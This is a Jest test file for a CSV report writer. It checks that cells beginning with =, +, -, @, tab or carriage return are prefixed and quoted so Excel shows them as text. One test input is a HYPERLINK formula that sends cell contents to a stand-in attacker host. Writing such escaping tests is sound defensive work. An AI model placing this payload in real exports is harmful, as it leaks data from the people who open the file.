import { REPORT_HEADER } from '../src/engine/migration-report';
import { csvCell, toCsv } from '../src/csv';

/** The report is opened in Excel by admins: no cell may run as a formula there. */
describe('the CSV report', () => {
  it.each([
    ['-2+3@contoso.com', `"'-2+3@contoso.com"`],
    [
      '=HYPERLINK("https://evil.example/?"&A1,"open")@contoso.com',
      `"'=HYPERLINK(""https://evil.example/?""&A1,""open"")@contoso.com"`,
    ],
    ['+1+cmd@contoso.com', `"'+1+cmd@contoso.com"`],
    ['@SUM(1+1)@contoso.com', `"'@SUM(1+1)@contoso.com"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
  ])('keeps %j as text, not a formula', (cell, written) => {
    expect(csvCell(cell)).toBe(written);
  });

  it('writes a user whose UPN starts with "-" (legal in Entra) as that text in a report row', () => {
    const csv = toCsv([
      REPORT_HEADER,
      ['id-1', '-adele@contoso.com', 'sku-1', 'remove', 'covered by the group', 1],
    ]);
    expect(csv.split('\n')[1]).toBe(
      `id-1,"'-adele@contoso.com",sku-1,remove,covered by the group,1`
    );
  });

  it('leaves ordinary text and numbers as they were, negative numbers included', () => {
    expect(toCsv([['adele@contoso.com', 'a, b', 'say "hi"', -3, 12]])).toBe(
      'adele@contoso.com,"a, b","say ""hi""",-3,12\n'
    );
  });
});
